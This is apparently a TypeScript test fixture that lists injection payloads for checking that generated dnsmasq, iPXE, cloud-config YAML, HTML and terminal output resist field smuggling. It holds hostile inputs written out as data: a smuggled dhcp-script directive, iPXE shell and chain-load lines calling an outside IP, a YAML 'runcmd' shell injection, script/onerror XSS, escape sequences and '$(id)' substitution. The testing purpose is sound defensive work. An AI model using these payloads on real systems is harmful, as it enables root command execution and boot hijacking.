/**
 * The hostile corpus: one payload per way a value could change a generated file, each planted
 * into every field of the clean site by test/hostile/write-corpus.ts (test/fixtures/hostile/<name>.yaml).
 */
export const PAYLOADS: Readonly<Record<string, string>> = {
  // A new dnsmasq directive: dhcp-script runs as root on every lease.
  'newline-directive': 'x\ndhcp-script=/tmp/pwn',
  'crlf-directive': 'x\r\ndhcp-script=/tmp/pwn',
  // New iPXE commands after the comment or value line.
  'ipxe-lines': 'x\n#!ipxe\nshell\nchain http://198.51.100.7/x',
  // Leaving a YAML scalar: a new key of the cloud-config, a new document.
  'yaml-break': 'x"\n  runcmd: [[sh, -c, pwn]]\n- y',
  'yaml-document': 'x\n---\nkind: Secret\n',
  // Markup for the offer and the plan comment.
  'html-script': '<script>alert(1)</script><img src=x onerror=alert(2)>',
  'table-pipes': 'a | b || `c` |\n| --- |',
  'backticks': '```\n# heading\n`',
  // Terminal control: clear screen, set the title, ring the bell; NUL; reordering; C1 CSI.
  'esc-sequences': '\u001b[2J\u001b]0;pwn\u0007',
  'nul-byte': 'a\u0000b',
  'bidi-override': 'safe\u202etxt.exe',
  'c1-csi': 'a\u009b31m',
  // Expansion syntaxes of the formats around: iPXE settings, templates, shells.
  'template': '${net0/mac}{{ .Values }}$(id)',
  // Field and argument separators of dnsmasq and iPXE.
  'separators': 'a,b#c;d e||f',
};
